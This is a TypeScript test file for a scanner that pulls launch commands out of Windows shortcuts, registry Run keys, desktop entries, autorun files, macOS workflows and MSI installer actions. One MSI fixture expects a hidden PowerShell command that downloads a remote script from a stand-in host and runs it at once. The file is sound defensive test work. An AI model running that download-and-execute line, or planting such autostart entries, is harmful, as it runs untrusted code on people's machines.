import fc from 'fast-check'
import { expect, test } from 'vitest'
import { lnk } from '../../../formats/testing.ts'
import { fixture } from '../installers/testing.ts'
import { fileOf } from '../testing.ts'
import { commandsOf, holdsCommand } from './shortcut.ts'

async function commands(name: string, content: string | Uint8Array) {
  const { files } = await fileOf(name, content)
  const [file] = files
  if (!file) throw new Error('no file')
  return commandsOf(file)
}

test('a Windows shortcut', async () => {
  const file = lnk({ target: 'C:\\Program Files\\a.exe', arguments: '/c b' })
  expect(await commands('a.lnk', file)).toMatchObject([
    { command: '"C:\\Program Files\\a.exe" /c b', shell: 'cmd', where: { file: 'a.lnk' } },
  ])
})

test('a desktop entry, with its line', async () => {
  const [found] = await commands('a.desktop', '[Desktop Entry]\nName=A\nExec=sh -c "true"\n')
  expect(found).toMatchObject({ command: 'sh -c "true"', shell: 'sh', where: { line: 3, column: 6 } })
})

test('registry entries that start something, and no others', async () => {
  const text =
    'Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"path"="C:\\\\a.exe"\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="C:\\\\b.exe \\"c\\""\r\n'
  expect((await commands('a.reg', text)).map(({ command }) => command)).toEqual(['C:\\b.exe "c"'])
})

test('settings that open deeply', async () => {
  const text = '<PCSettings>\n<DeepLink>%windir%\\system32\\cmd.exe /c a &amp; b</DeepLink></PCSettings>'
  expect(await commands('a.settingcontent-ms', text)).toMatchObject([
    { command: '%windir%\\system32\\cmd.exe /c a & b', where: { line: 2 } },
  ])
})

test('an autorun file, a workflow, a location', async () => {
  expect(await commands('autorun.inf', '[autorun]\nopen=a.exe /s\nicon=a.ico\n')).toMatchObject([
    { command: 'a.exe /s' },
  ])
  expect(await commands('driver.inf', '[a]\nopen=a.exe\n')).toEqual([])
  const workflow =
    '<plist><dict><key>actions</key><array><dict><key>COMMAND_STRING</key><string>true</string></dict></array></dict></plist>'
  expect(await commands('document.wflow', workflow)).toMatchObject([{ command: 'true', shell: 'sh' }])
  const location = "<plist><dict><key>URL</key><string>file:///a'b.app</string></dict></plist>"
  expect(await commands('a.fileloc', location)).toMatchObject([{ command: "open 'file:///a%27b.app'" }])
})

test('actions of an installer package', async () => {
  expect(await commands('a.msi', fixture('actions.msi'))).toMatchObject([
    { command: 'powershell.exe -w hidden -c "iwr http://update.invalid/a.ps1 | iex"', shell: 'cmd' },
  ])
})

test('other files hold none', async () => {
  const { files } = await fileOf('a.txt', 'Exec=true')
  expect(files.map(holdsCommand)).toEqual([false])
})

test('nothing is thrown, and no more than 20 are told', async () => {
  expect(await commands('a.desktop', 'Exec=true\n'.repeat(500))).toHaveLength(20)
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom('a.desktop', 'a.reg', 'a.terminal', 'a.inetloc', 'a.settingcontent-ms', 'a.lnk'),
      fc.string({ unit: 'binary', maxLength: 300 }),
      async (name, text) => {
        expect((await commands(name, text)).length).toBeLessThanOrEqual(20)
      },
    ),
  )
})
